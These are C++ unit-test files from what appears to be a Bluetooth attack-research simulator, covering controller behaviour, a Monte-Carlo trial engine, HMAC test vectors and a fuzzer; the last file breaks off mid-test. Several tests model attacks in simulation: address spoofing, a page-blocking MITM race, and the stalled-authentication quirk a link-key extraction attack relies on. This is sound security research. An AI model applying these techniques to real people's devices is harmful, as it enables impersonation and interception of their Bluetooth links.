  hci::Status status = hci::Status::kSuccess;
  bool done = false;
  a.host().connect_only(b.address(), [&](hci::Status s) {
    status = s;
    done = true;
  });
  sim.run_for(10 * kSecond);
  ASSERT_TRUE(done);
  EXPECT_NE(status, hci::Status::kSuccess);
  EXPECT_FALSE(a.host().has_acl(b.address()));
  EXPECT_FALSE(b.host().has_acl(a.address()));
}

TEST(ControllerBehavior, DuplicateConnectFailsCleanly) {
  Simulation sim(81);
  Device& a = sim.add_device(spec("a", "00:00:00:00:00:01"));
  Device& b = sim.add_device(spec("b", "00:00:00:00:00:02"));
  bool first = false;
  a.host().connect_only(b.address(), [&](hci::Status s) {
    first = s == hci::Status::kSuccess;
  });
  sim.run_for(5 * kSecond);
  ASSERT_TRUE(first);
  hci::Status second = hci::Status::kSuccess;
  a.host().connect_only(b.address(), [&](hci::Status s) { second = s; });
  sim.run_for(kSecond);
  EXPECT_EQ(second, hci::Status::kConnectionAlreadyExists);
  EXPECT_EQ(a.host().acls().size(), 1u);
}

TEST(ControllerBehavior, SpoofedIdentityAnswersPagesForThatAddress) {
  Simulation sim(82);
  Device& a = sim.add_device(spec("a", "00:00:00:00:00:01"));
  Device& b = sim.add_device(spec("b", "00:00:00:00:00:02"));
  Device& victim = sim.add_device(spec("v", "00:00:00:00:00:03"));
  b.set_radio_enabled(false);  // the real owner is away
  a.spoof_identity(b.address(), ClassOfDevice(ClassOfDevice::kHandsFree));

  bool connected = false;
  victim.host().connect_only(b.address(), [&](hci::Status s) {
    connected = s == hci::Status::kSuccess;
  });
  sim.run_for(5 * kSecond);
  EXPECT_TRUE(connected);
  // The spoofing device holds the link under the stolen identity.
  EXPECT_TRUE(a.host().has_acl(victim.address()));
}

TEST(ControllerBehavior, RadioDisableTearsDownLiveLinks) {
  Simulation sim(83);
  Device& a = sim.add_device(spec("a", "00:00:00:00:00:01"));
  Device& b = sim.add_device(spec("b", "00:00:00:00:00:02"));
  bool connected = false;
  a.host().connect_only(b.address(), [&](hci::Status s) {
    connected = s == hci::Status::kSuccess;
  });
  sim.run_for(5 * kSecond);
  ASSERT_TRUE(connected);
  b.set_radio_enabled(false);
  sim.run_for(kSecond);
  EXPECT_FALSE(a.host().has_acl(b.address()));
}

TEST(ControllerBehavior, StalledAuthDropsWithoutAuthFailureStatus) {
  // The exact controller behavior the extraction attack's step 5 exploits:
  // an unanswered challenge ends in a timeout-family status, never 0x05.
  Simulation sim(84);
  Device& c = sim.add_device(spec("c", "00:00:00:00:00:01"));
  Device& a = sim.add_device(spec("a", "00:00:00:00:00:02"));
  // Pre-install matching bonds so authentication starts immediately.
  crypto::LinkKey shared{};
  shared.fill(0x77);
  host::BondRecord bond_c;
  bond_c.address = a.address();
  bond_c.link_key = shared;
  c.host().security().store_bond(bond_c);
  // ...but A's host ignores its controller's key request (Fig. 9 hook).
  a.host().hooks().ignore_link_key_request = true;

  hci::Status status = hci::Status::kSuccess;
  bool done = false;
  c.host().pair(a.address(), [&](hci::Status s) {
    status = s;
    done = true;
  });
  sim.run_for(45 * kSecond);
  ASSERT_TRUE(done);
  EXPECT_NE(status, hci::Status::kSuccess);
  EXPECT_NE(status, hci::Status::kAuthenticationFailure);
  EXPECT_NE(status, hci::Status::kPinOrKeyMissing);
  EXPECT_TRUE(c.host().security().is_bonded(a.address()));  // bond survives
  EXPECT_GT(a.host().ignored_link_key_requests(), 0);
}

TEST(ControllerBehavior, MismatchedBondsFailWithAuthFailure) {
  // Contrast: answering with the WRONG key is a crypto failure, 0x05.
  Simulation sim(85);
  Device& c = sim.add_device(spec("c", "00:00:00:00:00:01"));
  Device& a = sim.add_device(spec("a", "00:00:00:00:00:02"));
  host::BondRecord bond_c;
  bond_c.address = a.address();
  bond_c.link_key.fill(0x11);
  c.host().security().store_bond(bond_c);
  host::BondRecord bond_a;
  bond_a.address = c.address();
  bond_a.link_key.fill(0x99);
  a.host().security().store_bond(bond_a);

  hci::Status status = hci::Status::kSuccess;
  bool done = false;
  c.host().pair(a.address(), [&](hci::Status s) {
    status = s;
    done = true;
  });
  sim.run_for(20 * kSecond);
  ASSERT_TRUE(done);
  EXPECT_EQ(status, hci::Status::kAuthenticationFailure);
  EXPECT_FALSE(c.host().security().is_bonded(a.address()));  // purged
}

TEST(ControllerBehavior, PeerWithoutBondTriggersRepairing) {
  // C has a bond, A does not (factory reset): A answers "key missing" and
  // C's host sees 0x06, purges, and a retry pairs fresh.
  Simulation sim(86);
  Device& c = sim.add_device(spec("c", "00:00:00:00:00:01"));
  Device& a = sim.add_device(spec("a", "00:00:00:00:00:02"));
  host::BondRecord bond_c;
  bond_c.address = a.address();
  bond_c.link_key.fill(0x33);
  c.host().security().store_bond(bond_c);

  hci::Status status = hci::Status::kSuccess;
  bool done = false;
  c.host().pair(a.address(), [&](hci::Status s) {
    status = s;
    done = true;
  });
  sim.run_for(20 * kSecond);
  ASSERT_TRUE(done);
  EXPECT_EQ(status, hci::Status::kPinOrKeyMissing);
  EXPECT_FALSE(c.host().security().is_bonded(a.address()));

  // Retry: fresh SSP pairing succeeds.
  done = false;
  c.host().pair(a.address(), [&](hci::Status s) {
    status = s;
    done = true;
  });
  sim.run_for(20 * kSecond);
  ASSERT_TRUE(done);
  EXPECT_EQ(status, hci::Status::kSuccess);
}

TEST(ControllerBehavior, EncryptedTrafficIsCiphertextOnAir) {
  Simulation sim(87);
  AirSniffer sniffer(sim.medium());
  Device& m = sim.add_device(spec("m", "00:00:00:00:00:01"));
  Device& c = sim.add_device(spec("c", "00:00:00:00:00:02"));
  bool done = false;
  m.host().pair(c.address(), [&](hci::Status s) { done = s == hci::Status::kSuccess; });
  // Step until the pairing completes so the idle policy cannot reap the
  // link before the echo goes out.
  for (int i = 0; i < 200 && !done; ++i) sim.run_for(100 * kMillisecond);
  ASSERT_TRUE(done);
  bool echoed = false;
  m.host().send_echo(c.address(), [&] { echoed = true; });
  sim.run_for(kSecond);
  ASSERT_TRUE(echoed);

  // No sniffed ACL frame after encryption start may contain 'ping' verbatim.
  bool plaintext_leak = false;
  for (const auto& frame : sniffer.frames()) {
    auto acl = controller::parse_acl_air_frame(frame.frame);
    if (!acl) continue;
    const std::string text(acl->begin(), acl->end());
    if (text.find("ping") != std::string::npos) plaintext_leak = true;
  }
  EXPECT_FALSE(plaintext_leak);
}

TEST(ControllerBehavior, UnencryptedTrafficIsVisibleOnAir) {
  // Without pairing (SDP only) the air frames are plaintext — the contrast
  // case for the eavesdropping story.
  Simulation sim(88);
  AirSniffer sniffer(sim.medium());
  Device& m = sim.add_device(spec("m", "00:00:00:00:00:01"));
  Device& c = sim.add_device(spec("c", "00:00:00:00:00:02"));
  bool connected = false;
  m.host().connect_only(c.address(), [&](hci::Status s) {
    connected = s == hci::Status::kSuccess;
  });
  sim.run_for(5 * kSecond);
  ASSERT_TRUE(connected);
  bool echoed = false;
  m.host().send_echo(c.address(), [&] { echoed = true; });
  sim.run_for(kSecond);
  ASSERT_TRUE(echoed);

  bool saw_plaintext = false;
  for (const auto& frame : sniffer.frames()) {
    auto acl = controller::parse_acl_air_frame(frame.frame);
    if (!acl) continue;
    const std::string text(acl->begin(), acl->end());
    if (text.find("ping") != std::string::npos) saw_plaintext = true;
  }
  EXPECT_TRUE(saw_plaintext);
}

}  // namespace
}  // namespace blap::core
