// Tests for the parallel Monte-Carlo campaign engine: bit-identical results
// for any worker count, seed derivation, aggregation math, and the
// deterministic JSON/CSV emits the experiment pipeline depends on.
#include <gtest/gtest.h>

#include <cmath>
#include <cstdlib>
#include <limits>
#include <set>

#include "campaign/campaign.hpp"
#include "core/device.hpp"
#include "core/page_blocking.hpp"
#include "core/profiles.hpp"

namespace blap::campaign {
namespace {

// A cheap but non-trivial trial: drives a seeded Rng through a few draws so
// success depends on the seed alone, and exercises the scheduler.
TrialResult rng_trial(const TrialSpec& spec) {
  Rng rng(spec.seed);
  Scheduler sched;
  std::uint64_t acc = 0;
  for (int i = 0; i < 8; ++i) {
    sched.schedule_in(rng.uniform(1000) + 1, [&acc, &rng] { acc += rng.next_u64() & 0xff; });
  }
  sched.run_all();
  TrialResult r;
  r.success = (acc % 3) == 0;
  r.value = static_cast<double>(acc % 100);
  r.virtual_end = sched.now();
  return r;
}

// A trial running a real (small) simulation: the Table II baseline race.
TrialResult race_trial(const TrialSpec& spec) {
  core::Simulation sim(spec.seed);
  const auto& profile = core::table2_profiles()[5];
  core::DeviceSpec a =
      core::attacker_profile().to_spec("attacker", *BdAddr::parse("aa:aa:aa:00:00:01"));
  a.controller.page_scan_interval = static_cast<SimTime>(1.28 * kSecond);
  core::DeviceSpec c = core::accessory_profile().to_spec(
      "headset", *BdAddr::parse("00:1b:7d:da:71:0a"), ClassOfDevice(ClassOfDevice::kHandsFree));
  c.host.io_capability = hci::IoCapability::kNoInputNoOutput;
  c.controller.page_scan_interval =
      core::accessory_interval_for_bias(profile.baseline_mitm_success,
                                        a.controller.page_scan_interval);
  core::DeviceSpec m = profile.to_spec("victim", *BdAddr::parse("48:90:12:34:56:78"));
  core::Device& attacker = sim.add_device(a);
  core::Device& accessory = sim.add_device(c);
  core::Device& target = sim.add_device(m);
  TrialResult r;
  r.success = core::PageBlockingAttack::baseline_trial(sim, attacker, accessory, target);
  r.virtual_end = sim.now();
  return r;
}

TEST(SplitMix, TrialSeedMatchesStreamOutputs) {
  // trial_seed(root, i) must equal the (i+1)-th output of the stream.
  std::uint64_t state = 42;
  for (std::uint64_t i = 0; i < 16; ++i) {
    const std::uint64_t streamed = splitmix64(state);
    EXPECT_EQ(trial_seed(42, i), streamed) << "index " << i;
  }
}

TEST(SplitMix, NearbyRootsYieldDistinctSeeds) {
  std::set<std::uint64_t> seen;
  for (std::uint64_t root = 0; root < 8; ++root)
    for (std::uint64_t i = 0; i < 64; ++i) seen.insert(trial_seed(root, i));
  EXPECT_EQ(seen.size(), 8u * 64u);
}

TEST(Wilson, MatchesKnownValues) {
  // 52/100: Wilson 95% ≈ [0.423, 0.616].
  const auto ci = wilson95(52, 100);
  EXPECT_NEAR(ci.low, 0.4231, 5e-4);
  EXPECT_NEAR(ci.high, 0.6157, 5e-4);
  // Degenerate cases stay in [0, 1].
  const auto all = wilson95(10, 10);
  EXPECT_GT(all.low, 0.65);
  EXPECT_NEAR(all.high, 1.0, 1e-9);
  const auto none = wilson95(0, 10);
  EXPECT_NEAR(none.low, 0.0, 1e-9);
  EXPECT_LT(none.high, 0.35);
  EXPECT_DOUBLE_EQ(wilson95(0, 0).low, 0.0);
}

TEST(HistogramTest, CountsEveryValueOnce) {
  const auto h = make_histogram({0.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0}, 4);
  EXPECT_DOUBLE_EQ(h.min, 0.0);
  EXPECT_DOUBLE_EQ(h.max, 7.0);
  EXPECT_DOUBLE_EQ(h.mean, 3.5);
  ASSERT_EQ(h.buckets.size(), 4u);
  std::size_t total = 0;
  for (const auto& b : h.buckets) total += b.count;
  EXPECT_EQ(total, 8u);
  EXPECT_EQ(h.buckets.back().count, 2u);  // 6 and the max (7)
}

TEST(HistogramTest, DegenerateSingleValue) {
  const auto h = make_histogram({5.0, 5.0, 5.0}, 8);
  ASSERT_EQ(h.buckets.size(), 1u);
  EXPECT_EQ(h.buckets[0].count, 3u);
}

TEST(HistogramTest, NonFiniteSamplesAreDropped) {
  // NaN/inf virtual durations (a trial that never ran) must not poison the
  // stats or the bucket edges.
  const double nan = std::numeric_limits<double>::quiet_NaN();
  const double inf = std::numeric_limits<double>::infinity();
  const auto h = make_histogram({nan, 1.0, inf, 3.0, -inf}, 2);
  EXPECT_DOUBLE_EQ(h.min, 1.0);
  EXPECT_DOUBLE_EQ(h.max, 3.0);
  EXPECT_DOUBLE_EQ(h.mean, 2.0);
  std::size_t total = 0;
  for (const auto& b : h.buckets) total += b.count;
  EXPECT_EQ(total, 2u);
}

TEST(HistogramTest, AllNonFiniteYieldsEmpty) {
  const double nan = std::numeric_limits<double>::quiet_NaN();
  const auto h = make_histogram({nan, nan}, 4);
  EXPECT_TRUE(h.buckets.empty());
}

TEST(Campaign, AggregateJsonIsIdenticalForAnyWorkerCount) {
  CampaignConfig cfg;
  cfg.label = "determinism";
  cfg.trials = 64;
  cfg.root_seed = 7;

  cfg.jobs = 1;
  const std::string json1 = run_campaign(cfg, rng_trial).to_json(true);
  cfg.jobs = 2;
  const std::string json2 = run_campaign(cfg, rng_trial).to_json(true);
  cfg.jobs = 8;
  const std::string json8 = run_campaign(cfg, rng_trial).to_json(true);

  EXPECT_EQ(json1, json2);
  EXPECT_EQ(json1, json8);

  // Re-run: byte-identical (no wall clock / date leakage into the emit).
  cfg.jobs = 8;
  EXPECT_EQ(run_campaign(cfg, rng_trial).to_json(true), json8);
  cfg.jobs = 1;
  EXPECT_EQ(run_campaign(cfg, rng_trial).to_csv(), run_campaign(cfg, rng_trial).to_csv());
}

TEST(Campaign, BlapJobsEnvironmentKnobKeepsResultsIdentical) {
  CampaignConfig cfg;
  cfg.label = "env knob";
  cfg.trials = 48;
  cfg.root_seed = 11;
  cfg.jobs = 1;
  const std::string reference = run_campaign(cfg, rng_trial).to_json(true);

  cfg.jobs = 0;  // defer to BLAP_JOBS
  for (const char* jobs : {"1", "2", "8"}) {
    ASSERT_EQ(setenv("BLAP_JOBS", jobs, 1), 0);
    const auto summary = run_campaign(cfg, rng_trial);
    EXPECT_EQ(summary.jobs_used, static_cast<unsigned>(std::atoi(jobs)));
    EXPECT_EQ(summary.to_json(true), reference) << "BLAP_JOBS=" << jobs;
  }
  unsetenv("BLAP_JOBS");
}

TEST(Campaign, FullSimulationTrialsAreDeterministicAcrossWorkerCounts) {
  CampaignConfig cfg;
  cfg.label = "race";
  cfg.trials = 12;
  cfg.root_seed = 1234;
  cfg.jobs = 1;
  const auto seq = run_campaign(cfg, race_trial);
  cfg.jobs = 4;
  const auto par = run_campaign(cfg, race_trial);
  EXPECT_EQ(seq.successes, par.successes);
  EXPECT_EQ(seq.to_json(true), par.to_json(true));
  ASSERT_EQ(seq.results.size(), par.results.size());
  for (std::size_t i = 0; i < seq.results.size(); ++i) {
    EXPECT_EQ(seq.results[i].seed, par.results[i].seed);
    EXPECT_EQ(seq.results[i].success, par.results[i].success);
    EXPECT_EQ(seq.results[i].virtual_end, par.results[i].virtual_end);
  }
}

TEST(Campaign, CustomSeedFnIsHonoured) {
  CampaignConfig cfg;
  cfg.trials = 5;
  cfg.root_seed = 100;
  cfg.jobs = 1;
  cfg.seed_fn = [](std::uint64_t root, std::size_t i) { return root + i; };
  const auto summary = run_campaign(cfg, rng_trial);
  for (std::size_t i = 0; i < 5; ++i) EXPECT_EQ(summary.results[i].seed, 100 + i);
}

TEST(Campaign, EngineFillsIndexSeedAndWall) {
  CampaignConfig cfg;
  cfg.trials = 9;
  cfg.root_seed = 3;
  cfg.jobs = 3;
  const auto summary = run_campaign(cfg, rng_trial);
  ASSERT_EQ(summary.results.size(), 9u);
  for (std::size_t i = 0; i < 9; ++i) {
    EXPECT_EQ(summary.results[i].index, i);
    EXPECT_EQ(summary.results[i].seed, trial_seed(3, i));
  }
  EXPECT_GT(summary.wall_total_ns, 0u);
}

TEST(Campaign, ZeroTrialsIsEmptyNotCrash) {
  CampaignConfig cfg;
  cfg.trials = 0;
  const auto summary = run_campaign(cfg, rng_trial);
  EXPECT_EQ(summary.trials, 0u);
  EXPECT_EQ(summary.successes, 0u);
  EXPECT_TRUE(summary.results.empty());
  EXPECT_FALSE(summary.has_metrics);
  // The emits must still be well-formed (no 0/0 rates, no NaN in JSON).
  const std::string json = summary.to_json(true);
  EXPECT_EQ(json.find("nan"), std::string::npos);
  EXPECT_EQ(json.find("inf"), std::string::npos);
}

TEST(Campaign, SingleTrialWilsonIntervalIsSane) {
  CampaignConfig cfg;
  cfg.trials = 1;
  cfg.root_seed = 5;
  cfg.jobs = 1;
  const auto summary = run_campaign(cfg, rng_trial);
  ASSERT_EQ(summary.results.size(), 1u);
  // n=1: the interval is wide but stays inside [0, 1] and brackets the rate.
  EXPECT_GE(summary.ci.low, 0.0);
  EXPECT_LE(summary.ci.high, 1.0);
  EXPECT_LE(summary.ci.low, summary.success_rate);
  EXPECT_GE(summary.ci.high, summary.success_rate);
  EXPECT_GT(summary.ci.high - summary.ci.low, 0.5);
}

TEST(Campaign, LongLabelSurvivesFormattingIntact) {
  // Regression: append_fmt used to truncate anything past its 256-byte
  // stack buffer, silently corrupting JSON emitted for long cell labels.
  CampaignConfig cfg;
  cfg.label = std::string(300, 'L') + " END-OF-LABEL";
  cfg.trials = 2;
  cfg.jobs = 1;
  const auto summary = run_campaign(cfg, rng_trial);
  const std::string json = summary.to_json();
  EXPECT_NE(json.find(cfg.label), std::string::npos);
  EXPECT_NE(json.find("END-OF-LABEL"), std::string::npos);
  EXPECT_NE(summary.timing_report().find("END-OF-LABEL"), std::string::npos);
}

// rng_trial plus a per-trial metrics snapshot, as campaign_sweep --metrics
// attaches one: a counter keyed by success and a virtual-time histogram.
TrialResult metric_trial(const TrialSpec& spec) {
  TrialResult r = rng_trial(spec);
  obs::MetricsRegistry reg;
  reg.add("trial.runs");
  reg.add(r.success ? "trial.successes" : "trial.failures");
  reg.gauge_max("trial.virtual_end_max", r.virtual_end);
  reg.observe("trial.virtual_end_us", r.virtual_end);
  r.metrics = std::make_shared<const obs::MetricsSnapshot>(reg.snapshot());
  return r;
}

TEST(Campaign, MetricsBlockIsIdenticalForAnyWorkerCount) {
  CampaignConfig cfg;
  cfg.label = "metrics determinism";
  cfg.trials = 40;
  cfg.root_seed = 21;

  cfg.jobs = 1;
  const auto seq = run_campaign(cfg, metric_trial);
  ASSERT_TRUE(seq.has_metrics);
  EXPECT_EQ(seq.metrics.counters.at("trial.runs"), 40u);
  EXPECT_EQ(seq.metrics.counters.at("trial.successes") +
                seq.metrics.counters.at("trial.failures"),
            40u);
  EXPECT_EQ(seq.metrics.histograms.at("trial.virtual_end_us").count, 40u);
  const std::string reference = seq.to_json(true);
  EXPECT_NE(reference.find("\"metrics\""), std::string::npos);

  for (unsigned jobs : {2u, 8u}) {
    cfg.jobs = jobs;
    EXPECT_EQ(run_campaign(cfg, metric_trial).to_json(true), reference)
        << "jobs=" << jobs;
  }
}

TEST(Campaign, TrialsWithoutMetricsEmitNoMetricsBlock) {
  CampaignConfig cfg;
  cfg.trials = 4;
  cfg.jobs = 2;
  const auto summary = run_campaign(cfg, rng_trial);
  EXPECT_FALSE(summary.has_metrics);
  EXPECT_EQ(summary.to_json(true).find("\"metrics\""), std::string::npos);
}

TEST(Campaign, SuccessRateAndCiMatchResults) {
  CampaignConfig cfg;
  cfg.trials = 200;
  cfg.root_seed = 99;
  cfg.jobs = 2;
  const auto summary = run_campaign(cfg, rng_trial);
  std::size_t manual = 0;
  for (const auto& r : summary.results) manual += r.success ? 1 : 0;
  EXPECT_EQ(summary.successes, manual);
  const auto ci = wilson95(manual, 200);
  EXPECT_DOUBLE_EQ(summary.ci.low, ci.low);
  EXPECT_DOUBLE_EQ(summary.ci.high, ci.high);
  EXPECT_LE(summary.ci.low, summary.success_rate);
  EXPECT_GE(summary.ci.high, summary.success_rate);
}

TEST(Campaign, TimingReportMentionsWorkers) {
  CampaignConfig cfg;
  cfg.label = "timing";
  cfg.trials = 4;
  cfg.jobs = 2;
  const auto summary = run_campaign(cfg, rng_trial);
  const std::string report = summary.timing_report();
  EXPECT_NE(report.find("timing"), std::string::npos);
  EXPECT_NE(report.find("2 worker(s)"), std::string::npos);
  // ...and none of that may appear in the deterministic emits.
  EXPECT_EQ(summary.to_json(true).find("wall"), std::string::npos);
  EXPECT_EQ(summary.to_csv().find("wall"), std::string::npos);
}

}  // namespace
}  // namespace blap::campaign
