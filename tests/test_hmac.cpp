// HMAC-SHA-256 validation against RFC 4231 test cases.
#include <gtest/gtest.h>

#include "common/bytes.hpp"
#include "crypto/hmac.hpp"

namespace blap::crypto {
namespace {

Bytes ascii(const std::string& s) { return Bytes(s.begin(), s.end()); }

TEST(HmacSha256, Rfc4231Case1) {
  const Bytes key(20, 0x0b);
  EXPECT_EQ(hex(hmac_sha256(key, ascii("Hi There"))),
            "b0344c61d8db38535ca8afceaf0bf12b881dc200c9833da726e9376c2e32cff7");
}

TEST(HmacSha256, Rfc4231Case2) {
  EXPECT_EQ(hex(hmac_sha256(ascii("Jefe"), ascii("what do ya want for nothing?"))),
            "5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843");
}

TEST(HmacSha256, Rfc4231Case3) {
  const Bytes key(20, 0xaa);
  const Bytes data(50, 0xdd);
  EXPECT_EQ(hex(hmac_sha256(key, data)),
            "773ea91e36800e46854db8ebd09181a72959098b3ef8c122d9635514ced565fe");
}

TEST(HmacSha256, Rfc4231Case4) {
  Bytes key;
  for (std::uint8_t i = 1; i <= 25; ++i) key.push_back(i);
  const Bytes data(50, 0xcd);
  EXPECT_EQ(hex(hmac_sha256(key, data)),
            "82558a389a443c0ea4cc819899f2083a85f0faa3e578f8077a2e3ff46729665b");
}

TEST(HmacSha256, Rfc4231Case6LongKey) {
  const Bytes key(131, 0xaa);
  EXPECT_EQ(hex(hmac_sha256(key, ascii("Test Using Larger Than Block-Size Key - Hash Key First"))),
            "60e431591ee0b67f0d8a26aacbf5b77f8e0bc6213728c5140546040f0ee37f54");
}

TEST(HmacSha256, Rfc4231Case7LongKeyLongData) {
  const Bytes key(131, 0xaa);
  EXPECT_EQ(hex(hmac_sha256(
                key, ascii("This is a test using a larger than block-size key and a larger than "
                           "block-size data. The key needs to be hashed before being used by the "
                           "HMAC algorithm."))),
            "9b09ffa71b942fcb27635fbcd5b0e944bfdc63644f0713938a7f51535c3a35e2");
}

TEST(HmacSha256, KeySensitivity) {
  const Bytes k1(16, 0x01), k2(16, 0x02);
  EXPECT_NE(hmac_sha256(k1, ascii("m")), hmac_sha256(k2, ascii("m")));
}

TEST(HmacSha256, MessageSensitivity) {
  const Bytes key(16, 0x01);
  EXPECT_NE(hmac_sha256(key, ascii("m1")), hmac_sha256(key, ascii("m2")));
}

TEST(HmacSha256, EmptyKeyAndMessageWellDefined) {
  const auto tag = hmac_sha256(Bytes{}, Bytes{});
  EXPECT_EQ(hex(tag), "b613679a0814d9ec772f95d778c35fc5ff1697c493715653c6c712144292c5ad");
}

}  // namespace
}  // namespace blap::crypto
