// test_fuzz.cpp — the coverage-guided fuzzing engine's own contracts.
//
// The fuzzer is only trustworthy if it is boring: same seed, same mutants,
// same corpus, same report — on any machine, any BLAP_JOBS value, any run.
// This suite pins that determinism contract piece by piece (mutator,
// coverage map, corpus scheduler, minimiser, campaign engine) and finishes
// with the fixed-seed stack smoke the ISSUE names: 500 snapshot-fork
// executions through the live controller+host state machines with the
// cross-layer InvariantMonitor as oracle, required to come back clean.
#include <gtest/gtest.h>

#include <memory>

#include "fuzz/corpus.hpp"
#include "fuzz/coverage.hpp"
#include "fuzz/fuzzer.hpp"
#include "fuzz/minimize.hpp"
#include "fuzz/mutator.hpp"
#include "fuzz/targets.hpp"

namespace blap::fuzz {
namespace {

// --- mutator -----------------------------------------------------------------

TEST(FuzzMutator, SameSeedSameMutants) {
  const Bytes base = {0x01, 0x05, 0x04, 0x03, 0x42, 0x00, 0x13};
  const std::vector<Bytes> pool = {Bytes{0xAA, 0xBB}, Bytes{1, 2, 3, 4, 5}};

  Mutator a(0xDEAD);
  Mutator b(0xDEAD);
  for (int i = 0; i < 500; ++i) {
    const Bytes ma = a.mutate(base, pool, 64);
    const Bytes mb = b.mutate(base, pool, 64);
    ASSERT_EQ(ma, mb) << "mutation " << i << " diverged under the same seed";
    ASSERT_FALSE(ma.empty());
    ASSERT_LE(ma.size(), 64u);
  }
}

TEST(FuzzMutator, DifferentSeedsDiverge) {
  const Bytes base = {0x01, 0x05, 0x04, 0x03, 0x42, 0x00, 0x13};
  Mutator a(1);
  Mutator b(2);
  int differing = 0;
  for (int i = 0; i < 100; ++i)
    if (a.mutate(base, {}, 64) != b.mutate(base, {}, 64)) ++differing;
  EXPECT_GT(differing, 50) << "seeds 1 and 2 produce near-identical streams";
}

TEST(FuzzMutator, DictionaryIsDeterministicAndNonTrivial) {
  const Dictionary a = Dictionary::bluetooth();
  const Dictionary b = Dictionary::bluetooth();
  EXPECT_EQ(a.tokens, b.tokens);
  EXPECT_GT(a.tokens.size(), 16u);
}

// --- coverage map ------------------------------------------------------------

TEST(FuzzCoverage, MapIsMonotoneAndReaccumulationAddsNothing) {
  CoverageMap map;
  FeatureSink sink;
  sink.hash(1, 0x1111);
  sink.hash(2, 0x2222);
  sink.hash(3, 0x3333);

  const std::size_t first = map.accumulate(sink);
  EXPECT_EQ(first, 3u);
  EXPECT_EQ(map.feature_count(), 3u);

  // Monotone: the exact same features add exactly zero.
  EXPECT_EQ(map.accumulate(sink), 0u);
  EXPECT_EQ(map.feature_count(), 3u);

  // A superset adds only its new members.
  sink.hash(4, 0x4444);
  EXPECT_EQ(map.accumulate(sink), 1u);
  EXPECT_EQ(map.feature_count(), 4u);
}

TEST(FuzzCoverage, MarkReportsNewExactlyOnce) {
  CoverageMap map;
  EXPECT_TRUE(map.mark(12345));
  EXPECT_FALSE(map.mark(12345));
  EXPECT_TRUE(map.mark(12346));
  EXPECT_EQ(map.feature_count(), 2u);
}

TEST(FuzzCoverage, CountBucketsMatchLibFuzzer) {
  EXPECT_EQ(count_bucket(0), 0);
  EXPECT_EQ(count_bucket(1), 1);
  EXPECT_EQ(count_bucket(2), 2);
  EXPECT_EQ(count_bucket(3), 3);
  EXPECT_EQ(count_bucket(4), count_bucket(7));
  EXPECT_EQ(count_bucket(8), count_bucket(15));
  EXPECT_EQ(count_bucket(16), count_bucket(31));
  EXPECT_EQ(count_bucket(32), count_bucket(127));
  EXPECT_EQ(count_bucket(128), count_bucket(255));
  EXPECT_NE(count_bucket(3), count_bucket(4));
  EXPECT_NE(count_bucket(127), count_bucket(128));
}

TEST(FuzzCoverage, FeatureHashIsDeterministicAndDomainSeparated) {
  EXPECT_EQ(feature_hash(7, 42), feature_hash(7, 42));
  EXPECT_NE(feature_hash(7, 42), feature_hash(8, 42));
  EXPECT_NE(feature_hash(7, 42), feature_hash(7, 43));
}

// --- corpus ------------------------------------------------------------------

TEST(FuzzCorpus, DedupsAndDigestTracksInsertionOrder) {
  Corpus a;
  EXPECT_TRUE(a.add(Bytes{1, 2, 3}));
  EXPECT_TRUE(a.add(Bytes{4, 5}));
  EXPECT_FALSE(a.add(Bytes{1, 2, 3}));  // byte-identical duplicate
  EXPECT_EQ(a.size(), 2u);

  Corpus b;
  EXPECT_TRUE(b.add(Bytes{1, 2, 3}));
  EXPECT_TRUE(b.add(Bytes{4, 5}));
  EXPECT_EQ(a.digest(), b.digest());

  // Insertion order is part of the fingerprint.
  Corpus c;
  EXPECT_TRUE(c.add(Bytes{4, 5}));
  EXPECT_TRUE(c.add(Bytes{1, 2, 3}));
  EXPECT_NE(a.digest(), c.digest());
}

TEST(FuzzCorpus, PickIsDeterministicInTheRngStream) {
  Corpus corpus;
  for (std::uint8_t i = 0; i < 20; ++i) corpus.add(Bytes{i});
  Rng a(99);
  Rng b(99);
  for (int i = 0; i < 200; ++i) EXPECT_EQ(corpus.pick(a), corpus.pick(b));
}

// --- minimiser ---------------------------------------------------------------

// Synthetic surface: a finding of kind "needle" iff the input contains the
// byte 0x42, and a *different* kind iff it contains 0x99 without 0x42 — so
// the suite can check the minimiser never wanders across kinds.
class NeedleTarget final : public FuzzTarget {
 public:
  const char* name() const override { return "needle"; }
  std::vector<Bytes> seed_inputs() const override { return {Bytes{0}}; }
  ExecResult execute(BytesView input, FeatureSink& sink) override {
    sink.hash(0, input.size());
    for (const std::uint8_t byte : input) {
      if (byte == 0x42) return {true, "needle", "contains 0x42"};
    }
    for (const std::uint8_t byte : input) {
      if (byte == 0x99) return {true, "other", "contains 0x99"};
    }
    return {};
  }
};

TEST(FuzzMinimize, ShrinksToTheNeedle) {
  NeedleTarget target;
  Bytes input(64, 0x00);
  input[37] = 0x42;

  MinimizeStats stats;
  const Bytes reduced = minimize_finding(target, input, "needle", 10'000, &stats);
  EXPECT_EQ(reduced, Bytes{0x42});
  EXPECT_GT(stats.reductions, 0u);
  EXPECT_LE(stats.executions, 10'000u);
}

TEST(FuzzMinimize, IsIdempotentAndBudgeted) {
  NeedleTarget target;
  const Bytes minimal = {0x42};
  MinimizeStats stats;
  EXPECT_EQ(minimize_finding(target, minimal, "needle", 10'000, &stats), minimal);
  EXPECT_EQ(stats.reductions, 0u);

  // A budget of zero executions returns the input untouched.
  Bytes big(32, 0x42);
  MinimizeStats zero_stats;
  EXPECT_EQ(minimize_finding(target, big, "needle", 0, &zero_stats), big);
  EXPECT_EQ(zero_stats.executions, 0u);
}

TEST(FuzzMinimize, NeverWandersOntoADifferentKind) {
  NeedleTarget target;
  // Deleting the 0x42 region would leave a valid "other" finding — the
  // minimiser must not accept that reduction.
  Bytes input(16, 0x00);
  input[3] = 0x42;
  input[12] = 0x99;
  const Bytes reduced = minimize_finding(target, input, "needle", 10'000);
  FeatureSink sink;
  const ExecResult result = target.execute(reduced, sink);
  ASSERT_TRUE(result.finding);
  EXPECT_EQ(result.kind, "needle");
}

// --- campaign engine ---------------------------------------------------------

TEST(FuzzEngine, UnknownTargetFailsWithReason) {
  FuzzConfig cfg;
  cfg.target = "no-such-surface";
  std::string why;
  EXPECT_FALSE(run_fuzz_campaign(cfg, &why).has_value());
  EXPECT_FALSE(why.empty());
}

TEST(FuzzEngine, TargetRegistryResolves) {
  for (const std::string& name : target_names()) {
    const TargetFactory factory = resolve_target(name);
    ASSERT_TRUE(factory) << name;
    if (name == "stack") continue;  // constructing it bonds a whole cell
    const auto target = factory();
